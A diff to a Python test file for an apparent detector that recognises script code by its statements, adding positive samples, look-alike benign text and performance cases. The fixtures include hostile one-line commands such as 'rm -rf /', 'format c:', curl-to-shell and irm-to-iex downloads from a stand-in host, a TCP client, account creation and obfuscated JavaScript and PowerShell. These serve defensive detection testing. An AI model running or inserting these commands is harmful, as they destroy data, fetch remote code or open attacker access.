@@ -26,6 +26,7 @@ def look(text: str | bytes, *names: str) -> list[tuple[str, str]]:
 CODE = {
     "first statement of a script": (
         "MsgBox \"lab\"\r\n", "' lab\r\nMsgBox a\r\n", "Option Explicit\r\nDim a\r\n", "# lab\nprint('lab')\n", "// x\nconsole.log(`a`)\n",
+        "Dim a, b\r\nDim c\r\n\r\na = 1\r\n", "Dim s : Set s = x\r\n",
     ),
     "Windows script code": (
         "Execute(StrReverse(x))\n", "Execute d(\"ebmd\")\n", "Sub Window_OnLoad\nself.close\nEnd Sub\n", "Call CreateObject(n).Navigate(u)\n",
@@ -36,7 +37,8 @@ CODE = {
         "[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p,$t)\n", "& (gcm i*x) (irm h.example/a)\n", "param([string]$u)\n",
         "'calc' | % { & $_ }\n", "$c=New-Object Net.Sockets.TCPClient('h.example',1)\n", "powershell.exe -File a.ps1 \n",
         "$ExecutionContext.\"Inv`okeCommand\".NewScriptBlock($a)\n",
-        "&(ls Alias:/ie?) 'calc'\n", "cp $PSCommandPath a.ps1\n", "pwsh -NoP -W 1 -encodedcommand SQBFAFgA\n", "mkdir $env:APPDATA\\a -Force\n"),
+        "&(ls Alias:/ie?) 'calc'\n", "cp $PSCommandPath a.ps1\n", "pwsh -NoP -W 1 -encodedcommand SQBFAFgA\n",
+        "Write-Output \"lab\"\r\n", "[Ref].Assembly.GetType($a)\n", "\r\nfunction Get-Lab {\n  1\n}\n", "mkdir $env:APPDATA\\a -Force\n"),
     "Windows commands": (
         "for %%i in (a b c) do @%%i.exe\n", "if exist %temp%\\a (a.exe)\n", "format c: /q /y\n", "pushd \\\\h.example\\s && a.exe\n", "cd /d %appdata%\n",
         "wmic os get /format:\"http://h.example/a.xsl\"\n", "\"%ProgramFiles%\\a\\a.exe\" /s\n", "net user a b /add\n", "echo x>a.vbs\n", "\"%~dp0a\"\n",
@@ -52,6 +54,8 @@ CODE = {
     "JavaScript code": (
         "require('child_process').exec('calc')\n", "import {execSync} from 'node:child_process';\n", "var _0x1a2b=['a'];\n", "ObjC.import('stdlib')\n",
         "eval(function(p,a,c,k,e,d){return p}('0',2))\n", "function go(a, b) {\n", "(function(w){})(1)\n", "Bun.spawn(['calc']);\n",
+        "eval(String.fromCharCode(97,61,49));\n", "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]()\n", "$=~[];$={a:++$}\n",
+        "function/**/ go(a)/**/ {\n",
         "[].constructor.constructor('return WScript')().Echo(1);\n"),
     "Unix code": (
         "rm -rf /\n", "set -euo pipefail\n", "source <(curl -s http://h.example/a)\n", "python3 -c 'import os'\n", "base64 -d <<< 'Y3VybA==' | sh\n",
@@ -81,9 +85,10 @@ def test_code_is_known_by_its_statements(what: str, name: str) -> None:
     "Run 5 km, swim\nCall Anna\nSend, please, the list.\n", "Chmod 755 is explained below.\nSource: (annual report)\n", "Add-Type and New-Item are commands.\n",
     "Dear all,\nwe copy /and/ paste.\nCD /DVD\nGoto page 3.\nEcho of the past > future\n", "$5,000 = NT$160,000\n$ = dollar\n| a | b |\n", "1.5 2.5\n3.5 4.5\n",
     "interface Gi0/1\n ip address 10.0.0.1\n!\n", "2026-11-21 09:00 INFO Start-Process failed\n", "[2026] :: minutes\n[x]: y\n",
+    "How to say it: print('lab') or MsgBox \"lab\".\n", "print (the report)\nMsgBoxes are gone\n", "Dim sum\nSet lunch 120\n",
+    "A write-output device; filter press-room (new)\n", "The [ref] assembly, the function get-together (Friday)\n", "$=~ costs; a = [] + []\n",
 ])
-@pytest.mark.parametrize("name", ["notes", "a.dat", "b.tmp", "c.doc"    "How to say it: print('lab') or MsgBox \"lab\".\n", "print (the report)\nMsgBoxes are gone\n",
-])
+@pytest.mark.parametrize("name", ["notes", "a.dat", "b.tmp", "c.doc"])
 def test_words_that_look_like_code_a_little(text: str, name: str) -> None:
     assert look(text, name) == []
 
@@ -110,7 +115,8 @@ def test_no_program_of_pictures_or_documents_opens_text_full_of_signs() -> None:
     assert not dense("") and not dense("a = b")
 
 
-@pytest.mark.parametrize("line", [b"&", b"(", b"| ", b"\nset a=", b"\nrun ", b"$a=", b"/*", b"'", b"\"\"\"", b"<#", b"def a(", b"if exist ", b"[a", b"; x\n"])
+@pytest.mark.parametrize("line", [b"&", b"(", b"| ", b"\nset a=", b"\nrun ", b"$a=", b"/*", b"'", b"\"\"\"", b"<#", b"def a(", b"if exist ", b"[a", b"; x\n", b"\n", b"\r\n",
+                                  b" \r\n", b"\x0c\n", b"Dim a\n", b"\t\n  "])
 def test_hostile_texts_cost_little(line: bytes) -> None:
     begun = time.process_time()
     look(line * (300_000 // len(line)), "a.dat")
